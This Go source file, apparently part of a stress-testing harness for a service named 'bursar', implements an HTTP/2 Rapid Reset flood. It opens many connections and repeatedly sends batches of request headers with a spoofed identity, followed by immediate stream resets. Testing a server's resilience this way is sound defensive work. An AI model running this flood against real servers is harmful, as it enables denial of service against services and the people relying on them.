package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/bursar/bursar/internal/identity"
	"github.com/bursar/bursar/proto/bursar/v1/bursarv1connect"
)

// resets opens many HTTP/2 connections, and begins and resets streams on each. Their claimed
// identity is not accepted.
func (a *attackers) resets(ctx context.Context) error {
	for range a.size(a.workload.Connections) {
		a.group.Go(func() {
			for ctx.Err() == nil {
				_ = a.resetStreams(ctx) // the server has ended the connection: again
			}
		})
	}
	return nil
}

// resetStreams begins and resets streams on one connection until it ends.
func (a *attackers) resetStreams(ctx context.Context) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.server)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	defer func() { _ = conn.Close() }()
	a.group.Go(func() { _, _ = io.Copy(io.Discard, conn) })
	var out, header bytes.Buffer
	out.WriteString(http2.ClientPreface)
	framer, encoder := http2.NewFramer(&out, nil), hpack.NewEncoder(&header)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	const most, together = 1 << 30, 50
	for id := uint32(1); id < most; {
		for range together {
			header.Reset()
			for _, field := range [][2]string{
				{":method", "POST"},
				{":scheme", "http"},
				{":authority", a.server},
				{":path", bursarv1connect.AllocationServiceListProcedure},
				{"content-type", "application/json"},
				{identity.Header, "nobody"},
			} {
				if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
					return err
				}
			}
			if err := errors.Join(
				framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header.Bytes(), EndHeaders: true}),
				framer.WriteData(id, true, []byte(`{"pageSize":1000}`)),
				framer.WriteRSTStream(id, http2.ErrCodeCancel),
			); err != nil {
				return err
			}
			id += 2
		}
		_ = conn.SetWriteDeadline(time.Now().Add(startTimeout)) // TCP supports deadlines
		if _, err := conn.Write(out.Bytes()); err != nil {
			return err
		}
		out.Reset()
		a.counted.calls.Add(together)
	}
	return nil
}
